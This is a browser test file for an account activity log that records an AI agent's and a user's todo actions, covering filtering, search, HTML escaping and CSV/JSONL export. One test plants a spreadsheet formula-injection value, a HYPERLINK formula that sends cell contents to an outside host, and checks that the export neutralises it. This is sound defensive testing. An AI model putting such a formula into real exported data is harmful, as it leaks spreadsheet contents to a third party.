import { afterAll, expect } from "bun:test";
import { SQL } from "bun";
import { browserTest, callTool, signedInPerson, useSite } from "../../../support/pages/support.ts";

// Registered before the stack's own, so that it runs first: the stack counts connections.
afterAll(() => sql.close());
const site = await useSite();
const { baseUrl, databaseUrl } = site.stack.config;
const sql = new SQL(databaseUrl, { max: 1 });

async function personWithAgent() {
  const { page, newToken } = await signedInPerson(site);
  const token = await newToken("Claude");
  const call = (name: string, args: object = {}) => callTool(site, token, name, args);
  const open = async (query = "") => {
    await page.goto(`${baseUrl}/account/actions${query}`);
    return page.locator(".log li.card").allInnerTexts();
  };
  return { page, token, call, open };
}

browserTest(
  "changes and refusals come first, and what was only looked at is one line that leads to it",
  async () => {
    const { page, call, open } = await personWithAgent();
    await call("create-todo", { title: "Pay rent" });
    for (let n = 0; n < 35; n++) await call("get-pending-todos");
    await call("get-today-habits");
    await call("delete-todo", { todo_id: 404 });
    const [refused, created, folded, ...more] = await open();
    expect(more).toEqual([]);
    expect(refused).toContain("Tried to delete the todo 404");
    expect(refused).toContain("It was told: Todo not found.");
    expect(created).toContain("Created the todo Pay rent");
    expect(folded).toBe("Claude: Looked at the pending todos 35 times; looked at the habits due today");
    await page.locator(".folded a").click();
    expect(await page.locator(".log li.card").count()).toBe(36);
    await page.getByLabel("Show").selectOption("Everything");
    await page.getByRole("button", { name: "Filter" }).click();
    expect(await page.locator(".log li.card").count()).toBe(38);
    await page.getByLabel("Show").selectOption("Refusals");
    await page.getByRole("button", { name: "Filter" }).click();
    expect(await page.locator(".log li.card").allInnerTexts()).toEqual([expect.stringContaining("404")]);
  },
);

browserTest("what was deleted last week is found by a word of its title, and by its day", async () => {
  const { page, token, open } = await personWithAgent();
  const rest = (method: string, path: string, body?: object) =>
    site.stack.rest(method, path, { token, body });
  const [created, deleted] = ["2026-11-14T22:30:00Z", "2026-11-14T23:30:00Z"];
  const { body } = await rest("POST", "/todos", { title: "Zahnärztin anrufen" });
  await rest("DELETE", `/todos/${body.id}`);
  await sql`update action_log set called_at = case when tool = 'todo.create' then ${created}::timestamptz else ${deleted}::timestamptz end
    where resource_name like 'Zahn%'`;
  await rest("POST", "/todos", { title: "Buy milk" });
  await open();
  await page.getByLabel("Search").fill("zahnarztin");
  await page.getByRole("button", { name: "Filter" }).click();
  const cards = page.locator(".log li.card");
  expect(await cards.allInnerTexts()).toEqual([
    expect.stringMatching(/^00:30:00\s+Deleted the todo Zahnärztin anrufen/),
    expect.stringMatching(/^23:30:00\s+Created the todo Zahnärztin anrufen/),
  ]);
  // The user's Sunday begins at 23:00 UTC.
  expect(await open("?from=2026-11-15&to=2026-11-15")).toEqual([expect.stringContaining("Deleted the todo")]);
  expect(await open("?to=2026-11-14")).toEqual([expect.stringContaining("Created the todo")]);
  expect(await open("?q=zahnarztin&from=0001-01-01&to=9999-12-31")).toHaveLength(2);
  const response = await page.goto(`${baseUrl}/account/actions?from=2026-02-30`);
  expect(response?.status()).toBe(422);
  expect(await page.locator("main").innerText()).toContain("The from field must be a real date");
});

browserTest("a change is told before and after, by whom, and leads to what it is about", async () => {
  const { page, token, open } = await personWithAgent();
  const today = new Date(Date.now() + 3_600_000).toISOString().slice(0, 10);
  const { body } = await site.stack.rest("POST", "/todos", { token, body: { title: "Pay <b>rent</b>" } });
  await site.stack.rest("PATCH", `/todos/${body.id}`, { token, body: { context: "@desk", due_date: today } });
  await page.goto(`${baseUrl}/account`);
  await page.getByRole("button", { name: "Done: Pay" }).click();
  await page.getByText("Done: Pay").waitFor();
  const [ticked, changed] = await open();
  expect(ticked).toMatch(/Ticked off the todo Pay <b>rent<\/b>\s+.*You, on the Today page/s);
  expect(changed).toMatch(/context none → @desk\s+.*Claude over REST/s);
  await site.stack.rest("POST", `/todos/${body.id}/toggle`, { token });
  await open();
  await page.locator(".log a").first().click();
  await page.waitForURL(`${baseUrl}/account/todos/${body.id}`);
  expect(await page.getByLabel("Title").inputValue()).toBe("Pay <b>rent</b>");
});

browserTest(
  "what came since this browser's last visit is new for as long as the next one lasts",
  async () => {
    const { page, call, open } = await personWithAgent();
    const news = async (minutesLater: number) => {
      site.stack.clock.now = Date.now() + minutesLater * 60_000;
      const cards = await open();
      site.stack.clock.now = undefined;
      return cards.filter((card) => card.includes("New")).map((card) => card.split("\n")[1]);
    };
    await call("create-todo", { title: "Before" });
    expect(await news(0)).toEqual([]);
    await call("create-todo", { title: "After" });
    await page.goto(`${baseUrl}/account`);
    await page.getByRole("button", { name: "Done: Before" }).click();
    await page.getByText("Done: Before").waitFor();
    expect(await news(1)).toEqual(["Created the todo After"]);
    expect(await news(40)).toEqual([]);
    await call("create-todo", { title: "Later" });
    expect(await news(80)).toEqual(["Created the todo Later"]);
    expect(await page.getByText("1 is new since your last visit.").count()).toBe(1);
    expect(await news(90)).toEqual(["Created the todo Later"]);
    expect(await news(130)).toEqual([]);
  },
);

browserTest(
  "what the filter shows can be had as CSV that no spreadsheet takes for formulas, and as JSON lines",
  async () => {
    const { page, token, call, open } = await personWithAgent();
    const evil = `=HYPERLINK("http://example.com/"&A1,"Rent")`;
    await call("create-todo", { title: evil });
    await call("get-pending-todos");
    await call("delete-todo", { todo_id: 404 });
    await site.stack.rest("PATCH", "/todos/404", { token, body: { title: "+1" } });
    await open("?show=all");
    const [csvLink, jsonLink] = await page.locator("a[href*=export]").all();
    const download = async (link: typeof csvLink) =>
      page.request.get(`${baseUrl}${await link?.getAttribute("href")}`);

    const csv = await download(csvLink);
    expect(csv.headers()["content-disposition"]).toMatch(
      /^attachment; filename="kept-actions-[\d-]{10}\.csv"$/,
    );
    const cells = (await csv.text()).split(/\r\n|","/);
    expect(cells).toContain(`'${evil.replaceAll('"', '""')}`);
    expect(cells).toContain(`Created the todo “${evil.replaceAll('"', '""')}”`);
    expect(cells.filter((cell) => /^"?\s*[=+@-]/.test(cell))).toEqual([]);

    const lines = (await (await download(jsonLink)).text()).trimEnd().split("\n");
    expect(
      lines.map((line) => JSON.parse(line)).map(({ tool, outcome, what }) => [tool, outcome, what]),
    ).toEqual([
      ["todo.update", "not_found", "Tried to change the todo 404: title “+1”"],
      ["delete-todo", "not_found", "Tried to delete the todo 404"],
      ["get-pending-todos", "ok", "Looked at the pending todos"],
      ["create-todo", "ok", `Created the todo “${evil}”`],
    ]);
    expect(Object.values(JSON.parse(lines[3] ?? "").after)).toMatchObject([{ title: evil }]);
    expect((await page.request.get(`${baseUrl}/account/actions/export?format=exe`)).status()).toBe(422);
  },
);

browserTest("a file goes on along the list to its end, and its filters are those of the page", async () => {
  const { page, token } = await personWithAgent();
  for (let n = 0; n < 9; n++) {
    const operations = Array.from({ length: 50 }, (_, i) => ({
      method: "POST",
      path: "/todos",
      body: { title: `T${n}-${i}` },
    }));
    expect((await site.stack.rest("POST", "/batch", { token, body: { operations } })).status).toBe(200);
  }
  const file = async (query: string) =>
    (await (await page.request.get(`${baseUrl}/account/actions/export?format=jsonl${query}`)).text()).split(
      "\n",
    );
  const names = (await file("")).slice(0, -1).map((line) => JSON.parse(line).resource_name);
  expect(new Set(names).size).toBe(450);
  expect(names[0]).toBe("T8-49");
  expect((await file("&q=T3-")).length - 1).toBe(50);
  expect(await file("&show=refusals")).toEqual([""]);
});
